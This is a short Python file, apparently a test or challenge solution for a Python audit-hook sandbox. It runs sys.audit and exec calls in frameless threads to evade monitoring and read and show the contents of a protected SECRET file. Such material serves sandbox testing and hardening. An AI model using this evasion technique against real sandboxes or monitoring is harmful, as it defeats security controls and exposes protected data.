# SPDX-License-Identifier: Apache-2.0
import goal
import _thread
import sys
import time


def frameless(call, *arguments):
    _thread.start_new_thread(call, arguments)
    time.sleep(0.05)


code = compile("goal.show(open(goal.SECRET).read())", "<string>", "exec")
for event in ("cpython.run_command", "cpython.run_stdin"):
    frameless(sys.audit, event)
    frameless(exec, code, {"goal": goal})
